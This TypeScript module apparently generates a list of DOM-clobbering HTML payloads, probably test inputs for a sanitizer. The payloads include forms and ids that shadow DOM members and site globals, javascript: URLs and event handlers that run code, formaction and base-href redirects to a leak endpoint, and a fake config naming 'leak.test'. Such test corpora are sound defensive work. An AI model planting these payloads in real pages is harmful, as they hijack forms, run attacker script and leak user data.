/** Names and ids that hide members of documents, windows and forms, with code behind them. */
import { each, LEAK, RUN } from './tokens';

/** Members that a sanitizer, a parser, a loader or a form handler reads. */
const MEMBERS = [
  'attributes getAttributeNames getAttribute setAttribute removeAttribute removeAttributeNode hasAttribute childNodes children',
  'firstChild firstElementChild lastChild nextSibling nextElementSibling parentNode parentElement nodeName nodeType localName',
  'tagName namespaceURI ownerDocument baseURI isConnected innerHTML outerHTML textContent content remove removeChild appendChild',
  'replaceWith replaceChild insertBefore append before after prepend cloneNode matches closest contains querySelector querySelectorAll',
  'action method target elements submit requestSubmit reset length name id className classList dataset style addEventListener',
  'dispatchEvent checkValidity noValidate enctype isSameNode toString valueOf constructor __proto__ prototype',
]
  .join(' ')
  .split(' ');

const GLOBALS = [
  'querySelector querySelectorAll getElementById createElement createTreeWalker createDocumentFragment createComment body head',
  'documentElement defaultView implementation forms images location cookie currentScript readyState activeElement adoptNode',
  'importNode URL domain referrer scripts styleSheets adoptedStyleSheets all dir title',
]
  .join(' ')
  .split(' ');

const VARIABLES = [
  'et_pb_custom',
  'enliven',
  'jQuery',
  '$',
  'wpcf7',
  'trustedTypes',
  'diviElementLinkData',
  'et_link_options_data',
  'woocommerce_params',
  '_wpmejsSettings',
  'google',
  'process',
  'self',
  'top',
  'fetch',
];

/** Clobbering of members. */
export const clobbering: readonly string[] = [
  ...each(
    MEMBERS,
    (name) =>
      `<form class="x" tabindex="0" onclick="${RUN}" action="javascript:${RUN}"><input name="${name}" onfocus="${RUN}"><input name="${name}"></form>`,
  ),
  ...each(
    ['select', 'button', 'output', 'object', 'fieldset', 'textarea', 'img'],
    (tag) =>
      `<form onfocusin="${RUN}"><${tag} name="attributes"></${tag}><${tag} id="getAttributeNames"></${tag}><${tag} name="remove"></${tag}><script>${RUN}</script></form>`,
  ),
  ...each(
    GLOBALS,
    (name, at) =>
      `<${['img', 'form', 'iframe', 'embed', 'object'][at % 5]} name="${name}" id="${name}" onclick="${RUN}">x`,
  ),
  ...each(
    VARIABLES,
    (name) =>
      `<a id="${name}" href="javascript:${RUN}">x</a><a id="${name}" name="start" href="${LEAK}">x</a><form id="${name}"><output name="api">${LEAK}</output></form>`,
  ),
  `<form id="x§n§"><form><input name="parentNode" form="x§n§"><input name="attributes"></form><b onclick="${RUN}">x</b>`,
  `<form><input form="login" name="log" value="stolen"><button form="login" formaction="${LEAK}" formmethod="get">x</button></form>`,
  `<input form="login" name="amount" value="0"><select form="login" name="more"><option>x</select><textarea form="login" name="text">x</textarea><output form="login" name="out">x</output><object form="login" name="obj"></object><fieldset form="login" disabled><input></fieldset>`,
  `<button form="login" type="reset">x</button><input type="submit" form="login" formtarget="_blank" formenctype="text/plain" formnovalidate>`,
  `<button commandfor="pay" command="show-modal">x</button><button popovertarget="login" popovertargetaction="show">x</button><button invoketarget="login" interesttarget="pay">x</button>`,
  `<label for="log">x</label><datalist id="log"><option>x</datalist>`,
  `<meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" content="script-src 'none'"><meta http-equiv="set-cookie" content="x=1">`,
  `<base target="_blank"><base href="${LEAK}">`,
  `<div id="enliven-config">{"autostart":false}</div><script type="application/json" id="enliven-config">{"autostart":false,"frames":{"hosts":["leak.test"]}}</script>`,
];
